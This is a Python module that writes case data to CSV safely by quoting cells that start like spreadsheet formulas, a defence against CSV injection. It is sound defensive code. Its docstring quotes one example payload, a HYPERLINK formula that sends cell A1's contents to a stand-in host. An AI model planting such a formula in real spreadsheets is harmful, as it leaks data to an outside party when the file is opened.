"""CSV files of case data that are safe to open in a spreadsheet (no formula injection).

Case data comes from WeCom and from people (userids, names, error texts, WeDrive file names): a cell
such as ``=HYPERLINK("http://x/?"&A1)`` or ``@SUM(...)`` would be run as a formula by Excel, WPS or
LibreOffice when an auditor opens the file. Every text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is written with a leading ``'`` (the spreadsheet convention for "this is
text"); numbers stay numbers. Every CSV of case data is written with :func:`csv_chunks`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (OWASP "CSV injection")."""


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows as text: text starting like a formula gets a leading ``'``.

    Numbers, booleans and None are returned as they are (``-3`` is a number, not a formula).
    """
    if value is None or isinstance(value, bool | int | float):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_chunks(
    rows: Iterable[Mapping[str, Any]], columns: Sequence[str], *, every: int = 500
) -> Iterator[bytes]:
    """``rows`` as CSV bytes (UTF-8 with a BOM, so spreadsheets show Chinese), a few hundred rows at a
    time, every cell made :func:`spreadsheet_safe`; keys not in ``columns`` are left out."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(columns), extrasaction="ignore")
    buffer.write("\ufeff")
    writer.writeheader()
    for count, row in enumerate(rows, start=1):
        writer.writerow({key: spreadsheet_safe(value) for key, value in row.items()})
        if count % every == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


__all__ = ["FORMULA_STARTS", "csv_chunks", "spreadsheet_safe"]
